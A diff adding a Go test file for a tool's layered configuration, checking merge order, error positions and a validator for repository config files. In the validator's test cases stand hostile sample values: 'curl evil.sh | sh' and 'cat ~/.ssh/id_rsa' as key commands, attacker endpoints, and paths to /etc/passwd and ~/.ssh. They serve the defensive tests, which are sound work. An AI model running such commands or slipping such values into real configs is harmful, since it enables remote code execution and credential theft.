@@ -0,0 +1,234 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// fileLayer writes content to a file named name and loads it as a layer
+func fileLayer(t *testing.T, name, content string) *layer {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	l, err := loadFileLayer(path)
+	if err != nil {
+		t.Fatalf("loadFileLayer(%s) error = %v", name, err)
+	}
+	return l
+}
+
+// clearEnv unsets the GIT_GENIUS_* variables of the environment the tests
+// run in, they are restored afterwards
+func clearEnv(t *testing.T) {
+	for _, key := range KnownKeys() {
+		name := EnvVarName(key)
+		if _, ok := os.LookupEnv(name); ok {
+			t.Setenv(name, "")
+			os.Unsetenv(name)
+		}
+	}
+}
+
+func TestMergeLayers(t *testing.T) {
+	const user = "llm:\n  name: gemini\n  api_key: user-key\n" +
+		"version_control:\n  provider: github\n  token: user-token\n" +
+		"context_providers:\n  - name: linear\n    api_key: linear-key\n  - name: git\n" +
+		"commit:\n  style: conventional\n"
+
+	tests := []struct {
+		name      string
+		repo      string
+		env       map[string]string
+		overrides map[string]string
+		// want maps keys to their value and origin, "user" and "repo" stand
+		// for the files
+		want map[string][2]string
+		// gone lists keys whose origin must be forgotten
+		gone []string
+	}{
+		{
+			name: "user file only",
+			want: map[string][2]string{
+				"llm.name":                     {"gemini", "user"},
+				"context_providers[0].name":    {"linear", "user"},
+				"context_providers[1].name":    {"git", "user"},
+				"context_providers[0].api_key": {"linear-key", "user"},
+				"commit.style":                 {"conventional", "user"},
+			},
+		},
+		{
+			name: "mappings merge key by key",
+			repo: "version_control:\n  provider: gitlab\ncommit:\n  style: gitmoji\n",
+			want: map[string][2]string{
+				"llm.name":                 {"gemini", "user"},
+				"version_control.provider": {"gitlab", "repo"},
+				"version_control.token":    {"user-token", "user"},
+				"commit.style":             {"gitmoji", "repo"},
+			},
+		},
+		{
+			name: "lists are replaced",
+			repo: "context_providers:\n  - name: git\n",
+			want: map[string][2]string{
+				"context_providers[0].name": {"git", "repo"},
+			},
+			gone: []string{"context_providers[0].api_key", "context_providers[1].name"},
+		},
+		{
+			name: "named items inherit missing keys",
+			repo: "context_providers:\n  - name: pr_template\n    path: .github/pr.md\n  - name: linear\n",
+			want: map[string][2]string{
+				"context_providers[0].name":    {"pr_template", "repo"},
+				"context_providers[0].path":    {".github/pr.md", "repo"},
+				"context_providers[1].name":    {"linear", "repo"},
+				"context_providers[1].api_key": {"linear-key", "user"},
+			},
+			gone: []string{"context_providers[0].api_key", "context_providers[1].path"},
+		},
+		{
+			name: "env beats files",
+			repo: "pull_request:\n  base_branch: develop\n",
+			env:  map[string]string{"GIT_GENIUS_PULL_REQUEST_BASE_BRANCH": "main"},
+			want: map[string][2]string{
+				"pull_request.base_branch": {"main", "env GIT_GENIUS_PULL_REQUEST_BASE_BRANCH"},
+			},
+		},
+		{
+			name:      "flags beat env",
+			env:       map[string]string{"GIT_GENIUS_PULL_REQUEST_BASE_BRANCH": "main"},
+			overrides: map[string]string{"pull_request.base_branch": "release"},
+			want: map[string][2]string{
+				"pull_request.base_branch": {"release", "flag --set pull_request.base_branch"},
+				"llm.name":                 {"gemini", "user"},
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			clearEnv(t)
+			for name, value := range tt.env {
+				t.Setenv(name, value)
+			}
+
+			origins := map[string]string{}
+			layers := []*layer{fileLayer(t, "config.yaml", user)}
+			origins["user"] = layers[0].origin
+			if tt.repo != "" {
+				repo := fileLayer(t, RepoConfigFile, tt.repo)
+				origins["repo"] = repo.origin
+				layers = append(layers, repo)
+			}
+			layers = append(layers, envLayers()...)
+			flags, err := overrideLayers(tt.overrides)
+			if err != nil {
+				t.Fatal(err)
+			}
+			layers = append(layers, flags...)
+
+			cfg, err := mergeLayers(layers)
+			if err != nil {
+				t.Fatalf("mergeLayers() error = %v", err)
+			}
+			values, err := cfg.Values()
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			for key, want := range tt.want {
+				if values[key] != want[0] {
+					t.Errorf("%s = %q, want %q", key, values[key], want[0])
+				}
+				origin := want[1]
+				if file, ok := origins[origin]; ok {
+					origin = file
+				}
+				if got := cfg.Origin(key); got != origin {
+					t.Errorf("Origin(%s) = %q, want %q", key, got, origin)
+				}
+			}
+			for _, key := range tt.gone {
+				if origin, ok := cfg.Origins[key]; ok {
+					t.Errorf("Origins[%s] = %q, want no origin", key, origin)
+				}
+			}
+		})
+	}
+}
+
+func TestOverrideLayersUnknownKey(t *testing.T) {
+	if _, err := overrideLayers(map[string]string{"llm.nmae": "gemini"}); err == nil || !strings.Contains(err.Error(), "unknown config key: llm.nmae") {
+		t.Errorf("overrideLayers() error = %v, want an unknown key error", err)
+	}
+}
+
+func TestCheckRepoLayer(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		// link names a symlink next to the file pointing outside of it
+		link string
+		want []string
+	}{
+		{name: "allowed keys", content: "commit:\n  style: conventional\nbranch:\n  pattern: \"{type}/{slug}\"\nllm:\n  model: gemini-1.5-pro\n"},
+		{name: "inline secret", content: "llm:\n  api_key: leaked\n", want: []string{"2:12: llm.api_key: credentials cannot be set"}},
+		{name: "secret command", content: "llm:\n  name: gemini\n  api_key_cmd: curl evil.sh | sh\n", want: []string{"3:16: llm.api_key_cmd: credentials cannot be set"}},
+		{name: "keyring reference", content: "version_control:\n  token_keyring: git-genius/github\n", want: []string{"2:18: version_control.token_keyring: credentials cannot be set"}},
+		{name: "provider secret", content: "context_providers:\n  - name: linear\n    api_key_cmd: cat ~/.ssh/id_rsa\n", want: []string{"3:18: context_providers[0].api_key_cmd: credentials cannot be set"}},
+		{name: "endpoint", content: "version_control:\n  base_url: https://evil.example.com\n", want: []string{"2:13: version_control.base_url: cannot be set in .git-genius.yaml"}},
+		{name: "index url", content: "index:\n  url: http://evil.example.com\n  model: nomic-embed-text\n", want: []string{"2:8: index.url: cannot be set in .git-genius.yaml"}},
+		{name: "paths inside", content: "prompts:\n  dir: .github/prompts\n  templates:\n    commit: prompts/../commit.tmpl\ncontext_providers:\n  - name: pr_template\n    path: .github/pull_request_template.md\n"},
+		{name: "absolute template", content: "prompts:\n  templates:\n    commit: /etc/passwd\n", want: []string{"3:13: prompts.templates.commit: must be a relative path inside the repository"}},
+		{name: "home dir", content: "prompts:\n  dir: ~/.ssh\n", want: []string{"2:8: prompts.dir: must be a relative path inside the repository"}},
+		{name: "parent dir", content: "context_providers:\n  - name: pr_template\n    path: docs/../../secrets.md\n", want: []string{"3:11: context_providers[0].path: must not point outside of the repository"}},
+		{name: "symlink out", content: "prompts:\n  dir: link/prompts\n", link: "link", want: []string{"2:8: prompts.dir: must not point outside of the repository"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			l := fileLayer(t, RepoConfigFile, tt.content)
+			if tt.link != "" {
+				if err := os.Symlink(t.TempDir(), filepath.Join(filepath.Dir(l.origin), tt.link)); err != nil {
+					t.Fatal(err)
+				}
+			}
+			errs := checkRepoLayer(l)
+			if len(errs) != len(tt.want) {
+				t.Fatalf("checkRepoLayer() = %v, want %d error(s)", errs, len(tt.want))
+			}
+			for i, err := range errs {
+				if !strings.Contains(err.Error(), tt.want[i]) {
+					t.Errorf("checkRepoLayer() error %d = %q, want it to contain %q", i, err, tt.want[i])
+				}
+			}
+		})
+	}
+}
+
+func TestValidatePositions(t *testing.T) {
+	clearEnv(t)
+	t.Setenv("GIT_GENIUS_VERSION_CONTROL_PROVIDER", "bitbucket")
+	l := fileLayer(t, "config.yaml", "llm:\n  name: openai\n  api_key: key\nversion_control:\n  token: token\n")
+	cfg, err := mergeLayers(append([]*layer{l}, envLayers()...))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	found := map[string]*ValidationError{}
+	for _, problem := range cfg.Validate() {
+		found[problem.Key] = problem
+	}
+
+	name := found["llm.name"]
+	if name == nil || name.Position == nil || name.Position.File != l.origin || name.Position.Line != 2 || name.Position.Column != 9 {
+		t.Errorf("llm.name problem = %+v, want it at %s:2:9", name, l.origin)
+	}
+	provider := found["version_control.provider"]
+	if provider == nil || provider.Position != nil || provider.Origin != "env GIT_GENIUS_VERSION_CONTROL_PROVIDER" {
+		t.Errorf("version_control.provider problem = %+v, want it from the env var without a position", provider)
+	}
+}